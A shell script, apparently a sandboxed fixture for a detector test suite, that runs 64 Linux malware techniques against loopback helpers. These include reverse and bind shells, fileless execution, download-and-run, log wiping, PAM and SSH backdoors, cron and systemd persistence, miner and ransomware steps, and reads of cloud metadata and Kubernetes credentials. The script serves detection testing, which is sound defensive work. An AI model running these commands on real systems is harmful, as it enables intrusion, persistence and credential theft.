#!/bin/sh
# linux_ttps: common Linux malware techniques, one variant per process tree, for
# test/linux-ttps.test.ts. Run without arguments, the script starts two loopback helpers (a
# listener that answers each connection with "exit" and an HTTP server), then re-runs itself once
# per variant (`sh linux_ttps.sh vNN`) so that each finding can be traced to its variant by the
# vNN in an ancestor's argv. Nothing leaves the sandbox: every connection is to 127.0.0.1 (but
# v64's, to the cloud metadata address, which the sandbox catches in the sample's own network
# namespace, where there is no route out), the kernel interfaces (core_pattern, release_agent,
# binfmt_misc, sysrq-trigger) are only opened for writing, never written, and the sandbox refuses
# mount, ptrace, module loads and namespaces.
H=127.0.0.1; RS=7001; WEB=7080; T=/tmp/ttps

py() { python3 - "$@"; }  # python from a here-document: its argv is only "-"

v01() { bash -c "bash -i >& /dev/tcp/$H/$RS 0>&1"; }                              # bash /dev/tcp reverse shell
v02() { python3 -c "import socket,os,pty;s=socket.socket();s.connect(('$H',$RS));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"; }  # python pty one-liner
v03() { py <<EOF                                                                     # python: dup2, then a shell child
import socket, os, subprocess
s = socket.create_connection(("$H", $RS))
for f in (0, 1, 2): os.dup2(s.fileno(), f)
subprocess.call(["/bin/sh", "-i"])
EOF
}
v04() { py <<EOF                                                                     # python: dup2, then exec sh
import socket, os
s = socket.create_connection(("$H", $RS))
for f in (0, 1, 2): os.dup2(s.fileno(), f)
os.execv("/bin/sh", ["sh", "-i"])
EOF
}
v05() { rm -f $T.f; mkfifo $T.f; cat $T.f | /bin/sh -i 2>&1 | nc $H $RS >$T.f; rm -f $T.f; }  # mkfifo + nc reverse shell
v06() { nc -e /bin/sh $H $RS 2>/dev/null; }                                          # nc -e (openbsd nc refuses it)
v07() { py <<'EOF'                                                                   # memfd_create + execve /proc/self/fd/N
import os
fd = os.memfd_create("kdevtmp", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execv(f"/proc/self/fd/{fd}", ["kdevtmp"])
EOF
}
v08() { py <<'EOF'                                                                   # execveat(fd, "", AT_EMPTY_PATH) on a memfd
import ctypes, os
fd = os.memfd_create("", 0)
os.write(fd, open("/bin/true", "rb").read())
libc = ctypes.CDLL(None, use_errno=True)
argv = (ctypes.c_char_p * 2)(b"x", None)
envp = (ctypes.c_char_p * 1)(None)
libc.syscall(322, fd, b"", argv, envp, 0x1000)
EOF
}
v09() { curl -s -o /var/tmp/.k http://$H:$WEB/true.bin && chmod +x /var/tmp/.k && /var/tmp/.k; }  # download, chmod +x, run
v10() { py <<EOF                                                                     # python download to /tmp, chmod, run
import os, urllib.request
open("/tmp/upd", "wb").write(urllib.request.urlopen("http://$H:$WEB/true.bin").read())
os.chmod("/tmp/upd", 0o755)
os.system("/tmp/upd")
EOF
}
v11() { printf 'import os, sys\nos.unlink(sys.argv[0])\n' >$T.py; python3 $T.py; }   # python script deletes itself
v12() { py <<'EOF'                                                                   # prctl(PR_SET_NAME)
import ctypes
ctypes.CDLL(None).prctl(15, b"kworker/u8:1", 0, 0, 0)
EOF
}
v13() { py <<'EOF'                                                                   # rename through /proc/self/comm
open("/proc/self/comm", "w").write("rcu_sched")
EOF
}
v14() { bash -c 'exec -a "[kworker/0:2]" sleep 0'; }                                 # argv[0] as a kernel thread
v15() { printf 'int x;\n' >$T.c && gcc -shared -fPIC -o $T.so $T.c && LD_PRELOAD=$T.so /bin/true; }  # LD_PRELOAD from /tmp
v16() { echo $T.so >/etc/ld.so.preload; rm -f /etc/ld.so.preload; }                # /etc/ld.so.preload
v17() { sh -c 'unset HISTFILE; export HISTSIZE=0; true'; }                          # history disabled
v18() { ln -sf /dev/null /home/user/.bash_history; }                                # history to /dev/null
v19() { truncate -s 0 /var/log/alternatives.log; }                                  # log truncated
v20() { sed -i '/configure/d' /var/log/dpkg.log; }                                   # log lines removed with sed -i
v21() { py <<'EOF'                                                                   # login records zeroed in place
f = open("/var/log/wtmp", "r+b"); f.write(b"\0" * 384); f.close()
EOF
}
v22() { touch /usr/local/bin/.dbus && touch -r /bin/ls /usr/local/bin/.dbus; }      # touch -r
v23() { py <<'EOF'                                                                   # python os.utime onto a system binary's times
import os
open("/usr/local/bin/dbus-daemon", "w").close()
st = os.stat("/bin/ls")
os.utime("/usr/local/bin/dbus-daemon", (st.st_atime, st.st_mtime))
EOF
}
v24() { mkdir -p /tmp/.x && cp /bin/true /tmp/.x/syslogd && /tmp/.x/syslogd -o stratum+tcp://$H:3333 -u x -p x; }  # stratum URL
v25() { cp /bin/true /tmp/.x/kthread && /tmp/.x/kthread -a rx/0 -o $H:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --cpu-max-threads-hint 75; }  # xmrig options, a Monero wallet
v26() { echo "* * * * * /tmp/.x/syslogd" | crontab -; }                              # crontab -
v27() { mkdir -p /etc/systemd/user /etc/systemd/system-generators && printf '[Service]\nExecStart=/tmp/.x/syslogd\n' >/etc/systemd/user/dbus-broker.service && printf '#!/bin/sh\n' >/etc/systemd/system-generators/netplan; }  # global user unit, generator
v28() { mkdir -p /root/.config/systemd/user && printf '[Service]\nExecStart=/tmp/.x/syslogd\n' >/root/.config/systemd/user/x.service; }  # user unit
v29() { echo '/tmp/.x/syslogd &' >>/root/.bashrc; echo '/tmp/.x/syslogd &' >/etc/profile.d/locale.sh; }  # .bashrc, profile.d
v30() { mkdir -p /etc/bash_completion.d && echo '/tmp/.x/syslogd &' >/etc/bash_completion.d/git; }  # bash completion hook
v31() { printf '#!/bin/sh\n/tmp/.x/syslogd\n' >/etc/rc.local; printf '#!/bin/sh\n' >/etc/init.d/networking-x; }  # rc.local, init.d
v32() { mkdir -p /etc/udev/rules.d && echo 'ACTION=="add", RUN+="/tmp/.x/syslogd"' >/etc/udev/rules.d/75-x.rules; printf '#!/bin/sh\n/tmp/.x/syslogd\n' >/etc/update-motd.d/99-x; }  # udev, motd
v33() { echo 'auth sufficient pam_permit.so' >>/etc/pam.d/common-auth; }           # PAM backdoor
v34() { echo /tmp/.x >/etc/ld.so.conf.d/x.conf; }                                   # loader search path
v35() { mkdir -p /etc/apt/apt.conf.d && echo 'APT::Update::Pre-Invoke {"/tmp/.x/syslogd";};' >/etc/apt/apt.conf.d/01-x; }  # APT hook
v36() { echo 'ssh-ed25519 AAAAC3Nza attacker' >>/root/.ssh/authorized_keys; }      # SSH key
v37() { py <<'EOF'                                                                   # /proc/*/cmdline en masse
import os
for p in os.listdir("/proc"):
    if p.isdigit():
        try: open(f"/proc/{p}/cmdline").read()
        except OSError: pass
for i in range(2, 14):
    try: open(f"/proc/{i}/status").read()
    except OSError: pass
EOF
}
v38() { cat /proc/net/tcp /proc/net/route /proc/net/arp >/dev/null; }              # network discovery without ip/netstat
v39() { cat /proc/1/cgroup >/dev/null; ls /.dockerenv 2>/dev/null; }               # container artefacts
v40() { cat /sys/devices/virtual/dmi/id/product_name /sys/class/dmi/id/bios_vendor /proc/1/sched >/dev/null 2>&1; }  # VM artefacts
v41() { pkill -f auditd; pkill -9 falco; }                                          # security tools killed by name
v42() { sh -c "rm -f $T.g; mkfifo $T.g; cat $T.g | /bin/sh -i 2>&1 | nc $H $RS >$T.g"; }  # the same as a one-liner
v43() { mount -t tmpfs none /mnt 2>/dev/null; }                                     # mount attempt
v44() { py <<'EOF'                                                                   # kernel escape interfaces opened for writing
import os, glob
for p in ["/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/release_agent", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger"]:
    try: os.close(os.open(p, os.O_WRONLY))
    except OSError: pass
EOF
}
v45() { curl -s -m 2 --unix-socket /var/run/docker.sock http://localhost/containers/json; true; }  # docker.sock
v46() { nsenter -t 1 -m -- true 2>/dev/null; unshare -r true 2>/dev/null; true; }  # namespace tools
v47() { sleep 3 & py $! <<'EOF'                                                     # ptrace attach, process_vm_readv, /proc/PID/mem
import ctypes, sys
pid = int(sys.argv[1]); libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, pid, 0, 0)
libc.syscall(310, pid, 0, 0, 0, 0, 0)
try: open(f"/proc/{pid}/mem", "rb")
except OSError: pass
EOF
kill $! 2>/dev/null; }
v48() { py <<'EOF'                                                                   # finit_module, raw and packet sockets, TRACEME
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/dev/null", os.O_RDONLY); libc.syscall(313, fd, b"", 0)
for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0)):
    try: socket.socket(fam, typ, proto).close()
    except OSError: pass
libc.ptrace(0, 0, 0, 0)
EOF
}
v49() { python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9zCm9zLmdldHBpZCgp'))"; }  # python exec of decoded code
v50() { sh -c 'eval "$(echo dHJ1ZQ== | base64 -d)"'; }                             # shell eval of decoded code
v51() { py <<'EOF'                                                                   # bind shell on loopback
import socket, os, subprocess, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("127.0.0.1", 7002)); l.listen(1)
if os.fork() == 0:
    time.sleep(0.3); c = socket.create_connection(("127.0.0.1", 7002)); c.sendall(b"exit\n"); time.sleep(1); os._exit(0)
s, _ = l.accept()
for f in (0, 1, 2): os.dup2(s.fileno(), f)
os.execv("/bin/sh", ["sh"])
EOF
}
v52() { printf 'h' >/proc/sysrq-trigger 2>/dev/null; true; }                        # sysrq-trigger (h: help)
v53() { useradd -o -u 0 -M sysd 2>/dev/null; echo 'toor:x:0:0::/root:/bin/sh' >>/etc/passwd; }  # accounts
v54() { cp /bin/sh /tmp/.x/sh && chmod 4755 /tmp/.x/sh; }                          # setuid shell
v55() { py <<'EOF'                                                                   # python os.utime on a descriptor: utimensat(fd, NULL, times)
import os
fd = os.open("/usr/local/bin/dbus-launch", os.O_WRONLY | os.O_CREAT, 0o755)
st = os.stat("/bin/ls")
os.utime(fd, (st.st_atime, st.st_mtime))
EOF
}
v56() { printf 'int y;\n' >$T.c && gcc -shared -fPIC -o /usr/local/lib/libsys.so $T.c && LD_PRELOAD=/usr/local/lib/libsys.so /bin/true; }  # LD_PRELOAD of a library dropped outside /tmp
v57() { echo '127.0.0.1 pool.minexmr.com' >>/etc/hosts; }                           # a rival's pool sent to loopback in /etc/hosts
v58() { python3 -c "import os; os.open('/dev/watchdog', os.O_RDWR)"; }                # Mirai's watchdog (absent here: the attempt)
v59() { for f in a b c d e; do echo "$f" >$T.$f.txt; openssl enc -aes-256-cbc -pbkdf2 -pass pass:k -in $T.$f.txt -out $T.$f.txt.locked && rm -f $T.$f.txt; done; }  # shell ransomware, one openssl per file
v60() { pkill -f kdevtmpfsi; ps aux | grep -v grep | grep -E 'xmrig|kdevtmpfsi' | awk '{print $2}' | xargs -r kill -9; }  # rival miners killed
v61() { echo SELINUX=disabled >/etc/selinux/config; }                                 # SELinux disabled in its configuration (absent here)
v62() { cat /var/run/secrets/kubernetes.io/serviceaccount/token; }                    # a pod's service account token (absent here: the attempt)
v63() { tr '\0' '\n' </proc/1/environ; }                                              # another process's environment
v64() { curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/; }  # the instance's role credentials, caught in the sample's namespace

if [ $# -gt 0 ]; then "$1" >/dev/null 2>&1 </dev/null; exit 0; fi

# the helpers: a listener answering "exit" to every connection, and an HTTP server of /bin/true
mkdir -p $T.www && cp /bin/true $T.www/true.bin
cat >$T-srv.py <<EOF
import socket, threading, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("$H", $RS)); l.listen(16)
def serve(c):
    c.settimeout(3); c.sendall(b"exit\n")
    try:
        while c.recv(4096): pass
    except OSError: pass
    c.close()
while True:
    c, _ = l.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
EOF
python3 $T-srv.py & SRV=$!
(cd $T.www && exec python3 -m http.server -b $H $WEB) >/dev/null 2>&1 & WWW=$!
sleep 1
for v in $(grep -o '^v[0-9][0-9]()' "$0" | tr -d '()'); do sh "$0" $v; done
kill $SRV $WWW 2>/dev/null
exit 0
